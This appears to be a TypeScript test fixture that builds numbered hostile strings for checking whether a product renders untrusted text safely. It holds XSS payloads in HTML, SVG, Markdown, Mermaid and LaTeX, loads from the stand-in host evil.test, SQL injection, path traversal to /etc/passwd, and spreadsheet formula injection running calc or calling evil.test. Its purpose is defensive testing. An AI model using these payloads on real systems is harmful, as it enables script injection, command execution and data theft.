/**
 * Texts of which each tries to become more than a text in a page that shows it. Text `n` says its name, `h‹n›-`, so
 * that a page can be asked whether it shows it, and carries what would be noticed if it came to run: it sets
 * `__hacked`, opens a dialog, or asks `evil.test` for something.
 */
export type HostileText = { n: number; text: string };

/** Of which nothing may ever be asked; `.test` is nobody's. */
export const EVIL = 'http://evil.test';

/** For attributes, so without spaces and quotes. */
const run = (n: number) => `window.__hacked=${n};alert(${n})`;
const base64 = (text: string) => Buffer.from(text).toString('base64');
const page = (n: number) => `<script>parent.__hacked=${n};top.alert(${n})</script>`;

type Template = (n: number) => string;

const MARKUP: readonly Template[] = [
  (n) => `<script>${run(n)}</script>`,
  (n) => `"><script src=${EVIL}/${n}.js></script>`,
  (n) => `<img src=x onerror=${run(n)}>`,
  (n) => `<img src="${EVIL}/${n}.png">`,
  (n) => `<img srcset="${EVIL}/${n}.png 2x">`,
  (n) => `'"><svg/onload=${run(n)}>`,
  (n) => `<svg><animate onbegin=${run(n)} attributeName=x dur=1s>`,
  (n) => `<svg><use href="data:image/svg+xml;base64,${base64('<svg id="x"/>')}#x"/><text>${n}</text></svg>`,
  (n) => `<svg><a xlink:href="javascript:${run(n)}"><text x=9 y=9>${n}</text></a></svg>`,
  (n) => `<iframe src="javascript:parent.${run(n)}"></iframe>`,
  (n) => `<iframe srcdoc="${page(n)}"></iframe>`,
  (n) => `<object data="data:text/html;base64,${base64(page(n))}"></object>`,
  (n) => `<embed src="${EVIL}/${n}.swf">`,
  (n) => `<meta http-equiv=refresh content="0;url=${EVIL}/${n}">`,
  (n) => `<base href="${EVIL}/${n}/">`,
  (n) => `<link rel=stylesheet href="${EVIL}/${n}.css">`,
  (n) => `<style>@import "${EVIL}/${n}.css";body{display:none!important}</style>`,
  (n) => `<p style="background:url(${EVIL}/${n}.png);position:fixed;inset:0;width:expression(${run(n)})">`,
  (n) => `<input autofocus onfocus=${run(n)}>`,
  (n) => `<details open ontoggle=${run(n)}>`,
  (n) => `<body onload=${run(n)}>`,
  (n) => `<video src="${EVIL}/${n}.mp4" autoplay onerror=${run(n)}></video>`,
  (n) => `<audio src="${EVIL}/${n}.mp3" autoplay></audio>`,
  (n) => `<form action="${EVIL}/${n}"><button autofocus>送出</button></form>`,
  (n) => `<marquee onstart=${run(n)}>`,
  (n) => `<a href="javascript:${run(n)}" target=_blank>連結</a>`,
  (n) => `<a ping="${EVIL}/${n}" href="#">連結</a>`,
  (n) => `<template><script>${run(n)}</script></template><x-y is=script>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${run(n)}>">`,
  (n) => `<math><mtext><table><mglyph><style><img title="</style><img src=x onerror=${run(n)}>">`,
  (n) => `<svg></p><style><a id="</style><img src=x onerror=${run(n)}>">`,
  (n) => `<textarea></textarea><img src=x onerror=${run(n)}>`,
  (n) => `<!--><img src=x onerror=${run(n)}>-->`,
  (n) => `<![CDATA[><script>${run(n)}</script>]]>`,
  (n) => `{"a":"</script><script>${run(n)}</script><!--<script>"}`,
  (n) => `&lt;img src=x onerror=${run(n)}&gt; &#60;script&#62;${run(n)}&#60;/script&#62;`,
  (n) => `\\u003cscript\\u003e${run(n)}\\u003c/script\\u003e %3Cscript%3E${run(n)}%3C/script%3E`,
  (n) => `＜script＞${run(n)}＜/script＞`,
  (n) => `<a id=config><a id=config name=url href="${EVIL}/${n}"><form name=body><input name=attributes>`,
];

const LANGUAGES: readonly Template[] = [
  (n) => `{{constructor.constructor("${run(n)}")()}} \${${run(n)}} <%= ${run(n)} %> #{${run(n)}}`,
  (n) =>
    `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+${run(n)}//'>`,
  (n) => `__proto__ constructor prototype toString ${n}`,
  (n) => `null undefined NaN true 0 -1 [object Object] ${n}`,
  (n) => `'; DROP TABLE users; SELECT '${n}' --`,
  (n) => `../../../../etc/passwd?x=${n}#/..%2f..%5c`,
  (n) => `\u001b[31m\u001b]0;${n}\u0007 \u001b[2J`,
  (n) => `\u202e${n} txt.exe \u2066\u200f`,
  (n) => `零\u200b寬\u200d字\ufeff元\u00ad ${n}`,
  (n) => `Z${'\u0301\u0336\u0489'.repeat(1_667)} ${n}`,
  (n) => `${'無盡'.repeat(50)}${'W'.repeat(2_000)} ${n}`,
  (n) => `${'👩‍👩‍👧‍👦'.repeat(200)} ${n}`,
  (n) => `${'\u3000\u00a0\u2003'.repeat(60)}${n}`,
  (n) => `=HYPERLINK("${EVIL}/${n}","按這裡")`,
  (n) => `+cmd|'/C calc'!A${n}`,
  (n) => `@SUM(1+${n})*cmd|' /C calc'!A0`,
  (n) => `-2+3+cmd|' /C calc'!A${n}`,
  (n) => `\t=WEBSERVICE("${EVIL}/${n}")`,
  (n) => `"\r\n=IMPORTXML("${EVIL}/${n}","//a"),"`,
];

const FORMULAS: readonly Template[] = [
  (n) => `$$\\href{javascript:${run(n)}}{連結}$$`,
  (n) => `$$\\url{javascript:${run(n)}}$$`,
  (n) => `\\[\\htmlData{onclick=${run(n)}}{x}\\]`,
  (n) => `\\(\\htmlStyle{background:url(${EVIL}/${n})}{x}\\)`,
  (n) => `$$\\htmlClass{a" onclick="${run(n)}}{x}$$`,
  (n) => `$$\\includegraphics[height=1em]{${EVIL}/${n}.png}$$`,
  (n) => `$$\\text{<img src=x onerror=${run(n)}>}$$`,
  (n) => `$$\\def\\a{\\a\\a}\\a ${n}$$ $$\\rule{9999em}{9999em}$$`,
];

const MARKDOWN: readonly Template[] = [
  (n) =>
    `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${run(n)}>"]\nclick A "javascript:${run(n)}"\n\`\`\``,
  (n) => `\`\`\`"><script>${run(n)}</script>\nx\n\`\`\``,
  (n) => `\`\`\`html onload=${run(n)}\n<script>${run(n)}</script>\n\`\`\``,
  (n) => `\`\`\`__proto__\n${n}\n\`\`\``,
  (n) =>
    `| 甲 | [乙](javascript:${run(n)}) |\n| - | - |\n| <img src=x onerror=${run(n)}> | ![x](${EVIL}/${n}) |`,
  (n) => `文[^1]\n\n[^1]: ![x](${EVIL}/${n}) <script>${run(n)}</script>`,
  (n) => `文[^constructor"onclick="${run(n)}]\n\n[^constructor"onclick="${run(n)}]: 註`,
  (n) => `- [ ] <img src=x onerror=${run(n)}>\n- [x] ${n}`,
  (n) => `[![x](${EVIL}/${n}.png)](javascript:${run(n)})`,
  (n) => `![x"onerror="${run(n)}](x"onerror="${run(n)})`,
  (n) => `[x](${EVIL}/${n} "標題\\" onmouseover=${run(n)}")`,
  (n) => `${'> '.repeat(60)}${'- '.repeat(40)}<script>${run(n)}</script>`,
];

/** Where a link of Markdown may lead that it must not, */
const TARGETS: readonly Template[] = [
  (n) => `javascript:${run(n)}`,
  (n) => `JaVaScRiPt&colon;${run(n)}`,
  (n) => `&#106;avascript&#x3a;${run(n)}`,
  (n) => `data:text/html;base64,${base64(page(n))}`,
  (n) => `vbscript:msgbox(${n})`,
  (n) => `//evil.test/${n}`,
];

/** and every way to write one. */
const LINKS: readonly ((target: string) => string)[] = [
  (target) => `[連結](${target})`,
  (target) => `[連結][甲]\n\n[甲]: ${target}`,
  (target) => `<${target}>`,
  (target) => `![圖片](${target})`,
];

const templates: readonly Template[] = [
  ...MARKUP,
  ...LANGUAGES,
  ...FORMULAS,
  ...MARKDOWN,
  ...TARGETS.flatMap((target) =>
    LINKS.map(
      (link): Template =>
        (n) =>
          link(target(n)),
    ),
  ),
];

/** By which a page knows a text again. */
export const nameOf = (n: number): string => `h${n}-`;

/** The first sign of a formula stays the first one. */
const named = (n: number, text: string) =>
  /^[=+\-@\t"]/.test(text) ? `${text} ${nameOf(n)}` : `${nameOf(n)} ${text}`;

export const HOSTILE_TEXTS: readonly HostileText[] = templates.map((template, index) => ({
  n: index + 1,
  text: named(index + 1, template(index + 1)),
}));

/** As much of all texts as goes into fields of this length, as few fields as possible; longer texts are cut. */
export function pack(max: number, separator = ' ', texts = HOSTILE_TEXTS): string[] {
  const packed: string[] = [];
  for (const { text } of texts) {
    const cut = text.slice(0, max).toWellFormed();
    const last = packed.at(-1);
    if (last !== undefined && last.length + separator.length + cut.length <= max) {
      packed[packed.length - 1] = last + separator + cut;
    } else packed.push(cut);
  }
  return packed;
}

/** The same for a name, in which the product allows no character that is not seen, nor space around it. */
export function packNames(max: number): string[] {
  const seen = HOSTILE_TEXTS.map(({ n, text }) => ({ n, text: text.replace(/[\p{Cc}\p{Cf}]/gu, '').trim() }));
  return pack(max, ' ', seen);
}

/** In one message, with the longest ones short enough for it. */
export function allTexts(): string {
  return HOSTILE_TEXTS.map(({ text }) => text.slice(0, 1_000).toWellFormed()).join('\n\n');
}
